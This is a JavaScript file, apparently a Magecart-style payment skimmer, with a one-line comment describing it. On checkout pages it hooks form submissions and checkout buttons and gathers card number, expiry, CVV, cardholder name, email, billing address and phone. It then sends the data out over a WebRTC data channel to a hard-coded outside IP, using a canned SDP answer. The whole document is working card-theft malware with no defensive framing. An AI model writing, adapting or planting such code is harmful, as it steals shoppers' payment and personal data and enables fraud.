// corpus note: opens an RTCPeerConnection to a hard-coded peer using a canned SDP answer and sends the serialized card fields over a data channel when checkout is submitted
(function () {
  if (!/checkout|onepage|payment/i.test(location.pathname)) return;

  var PEER = "198.51.100.23";
  var pc = null, dc = null, isOpen = false, queue = [];

  function answerSdp() {
    return [
      "v=0",
      "o=- 4611731400430051336 2 IN IP4 " + PEER,
      "s=-",
      "t=0 0",
      "a=group:BUNDLE 0",
      "a=msid-semantic: WMS",
      "m=application 3478 UDP/DTLS/SCTP webrtc-datachannel",
      "c=IN IP4 " + PEER,
      "a=candidate:1 1 udp 2113937151 " + PEER + " 3478 typ host generation 0",
      "a=ice-ufrag:kq7Z",
      "a=ice-pwd:Xv0bq4XsT1mUeW9p2aLr8cJd",
      "a=ice-options:trickle",
      "a=fingerprint:sha-256 BC:25:3C:7A:5F:6B:B7:39:AB:01:41:4E:3B:D9:CC:A4:F1:8C:4B:ED:BD:8E:C6:62:86:61:FF:F4:38:E4:EF:9F",
      "a=setup:active",
      "a=mid:0",
      "a=sctp-port:5000",
      "a=max-message-size:262144",
      ""
    ].join("\r\n");
  }

  function connect() {
    try {
      pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + PEER + ":3478" }] });
    } catch (e) { return; }
    dc = pc.createDataChannel("sync", { ordered: true });
    dc.onopen = function () {
      isOpen = true;
      while (queue.length) dc.send(queue.shift());
    };
    dc.onclose = function () { isOpen = false; };
    pc.createOffer()
      .then(function (offer) { return pc.setLocalDescription(offer); })
      .then(function () { return pc.setRemoteDescription({ type: "answer", sdp: answerSdp() }); })
      .catch(function () {});
  }

  function v(id) {
    var el = document.getElementById(id);
    return el && el.value ? el.value.trim() : "";
  }

  function deliver(msg) {
    if (isOpen && dc.readyState === "open") dc.send(msg);
    else queue.push(msg);
  }

  function collect() {
    var record = {
      pan: v("cc_number") || v("card-number") || v("authorizenet_directpost_cc_number"),
      mm: v("cc_exp_month") || v("expiration"),
      yy: v("cc_exp_year") || v("expiration_yr"),
      cvv: v("cc_cid") || v("card-cvc"),
      holder: v("cc_owner") || (v("billing:firstname") + " " + v("billing:lastname")),
      email: v("customer-email") || v("billing:email"),
      addr: [v("billing:street1"), v("billing:city"), v("billing:postcode"), v("billing:country_id")].join("|"),
      tel: v("billing:telephone"),
      site: location.hostname
    };
    if (record.pan.replace(/\D/g, "").length < 13) return;
    deliver(JSON.stringify(record));
  }

  function bind() {
    var forms = document.querySelectorAll("form");
    for (var i = 0; i < forms.length; i++) {
      forms[i].addEventListener("submit", collect, true);
    }
    var btns = document.querySelectorAll("#payment-buttons-container button, button.checkout, #place_order");
    for (var j = 0; j < btns.length; j++) {
      btns[j].addEventListener("mousedown", collect, true);
    }
  }

  connect();
  if (document.readyState === "loading") {
    document.addEventListener("DOMContentLoaded", bind);
  } else {
    bind();
  }
})();
